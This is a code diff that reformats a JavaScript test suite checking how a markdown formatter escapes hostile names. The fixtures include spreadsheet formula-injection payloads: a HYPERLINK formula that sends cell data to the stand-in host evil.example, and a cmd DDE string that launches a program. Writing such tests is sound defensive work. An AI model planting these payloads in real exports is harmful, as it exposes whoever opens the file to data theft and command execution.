@@ -11,7 +11,16 @@ import { formatMarkdown, md } from '../../src/format/markdown.js';
 import { run, simpleScenario } from '../helpers.js';
 
 const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"click"), with | pipes\nand a new line';
-const HOSTILE_ITEMS = ['+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tTabbed', '\rCarriage', 'a, "quoted", item', '[link](http://x) <b>bold</b> *em* `code` # h', '1. not a list'];
+const HOSTILE_ITEMS = [
+  "+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\tTabbed',
+  '\rCarriage',
+  'a, "quoted", item',
+  '[link](http://x) <b>bold</b> *em* `code` # h',
+  '1. not a list',
+];
 
 function hostileReport() {
   const yaml = simpleScenario(
@@ -84,7 +93,10 @@ describe('hostile names', () => {
       expect(cells).toBeGreaterThanOrEqual(4);
       expect(line.endsWith('|')).toBe(true);
     }
-    const summary = formatMarkdown([{ file: 'a|b\n.yaml', report }, { file: 'c.yaml', report }]);
+    const summary = formatMarkdown([
+      { file: 'a|b\n.yaml', report },
+      { file: 'c.yaml', report },
+    ]);
     const rows = summary.split('\n').filter((l) => l.startsWith('| '));
     expect(new Set(rows.slice(0, 4).map((l) => l.split(/(?<!\\)\|/).length)).size).toBe(1);
   });
